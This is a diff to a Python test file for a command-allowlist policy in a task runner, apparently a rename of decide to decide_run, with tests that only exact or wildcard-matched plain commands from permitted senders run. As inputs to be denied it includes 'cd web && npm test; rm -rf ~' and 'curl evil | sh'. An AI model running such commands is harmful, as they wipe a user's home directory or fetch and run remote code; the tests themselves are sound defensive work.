@@ -11,7 +11,7 @@ from taskfs.core.policy import (
     PolicyError,
     RunnerPolicy,
     command_matches,
-    decide,
+    decide_run,
     is_plain,
     parse_policy,
 )
@@ -25,17 +25,17 @@ def policy(*commands: str, senders: list[str] | None = None) -> RunnerPolicy:
 
 
 def test_no_policy_allows_nothing() -> None:
-    assert decide(NOTHING, "true", "lead").allowed is False
-    assert decide(parse_policy(None), "true", "lead").allowed is False
-    assert decide(parse_policy({}), "true", None).allowed is False
+    assert decide_run(NOTHING, "true", "lead").allowed is False
+    assert decide_run(parse_policy(None), "true", "lead").allowed is False
+    assert decide_run(parse_policy({}), "true", None).allowed is False
 
 
 def test_an_exact_pattern_allows_exactly_that_command_shell_syntax_and_all() -> None:
     rules = policy("cd web && npm test")
-    assert decide(rules, "cd web && npm test", None).allowed
-    assert decide(rules, "  cd web && npm test ", None).allowed
-    assert not decide(rules, "cd web && npm test; rm -rf ~", None).allowed
-    assert not decide(rules, "cd web && npm tests", None).allowed
+    assert decide_run(rules, "cd web && npm test", None).allowed
+    assert decide_run(rules, "  cd web && npm test ", None).allowed
+    assert not decide_run(rules, "cd web && npm test; rm -rf ~", None).allowed
+    assert not decide_run(rules, "cd web && npm tests", None).allowed
 
 
 @pytest.mark.parametrize(
@@ -82,7 +82,7 @@ def test_wildcard_patterns_match_word_by_word(pattern: str, command: str, allowe
 )
 def test_a_wildcard_never_lets_shell_syntax_through(command: str) -> None:
     assert not is_plain(command)
-    decision = decide(policy("pytest -q **", "pytest *", "**"), command, "lead")
+    decision = decide_run(policy("pytest -q **", "pytest *", "**"), command, "lead")
     assert decision.allowed is False
     assert "shell syntax" in decision.reason
 
@@ -101,17 +101,17 @@ def test_double_star_matches_any_plain_words(words: list[str]) -> None:
 
 def test_senders_narrow_never_widen() -> None:
     rules = policy("make check", senders=["lead"])
-    assert decide(rules, "make check", "lead").allowed
-    denied = decide(rules, "make check", "mallory")
+    assert decide_run(rules, "make check", "lead").allowed
+    denied = decide_run(rules, "make check", "mallory")
     assert not denied.allowed
     assert "mallory" in denied.reason
-    assert not decide(rules, "make check", None).allowed
-    assert not decide(rules, "curl evil | sh", "lead").allowed
-    assert not decide(policy(senders=["lead"]), "make check", "lead").allowed
+    assert not decide_run(rules, "make check", None).allowed
+    assert not decide_run(rules, "curl evil | sh", "lead").allowed
+    assert not decide_run(policy(senders=["lead"]), "make check", "lead").allowed
 
 
 def test_the_allowing_pattern_is_named() -> None:
-    decision = decide(policy("make lint", "make check"), "make check", None)
+    decision = decide_run(policy("make lint", "make check"), "make check", None)
     assert decision.allowed
     assert decision.pattern == "make check"
 
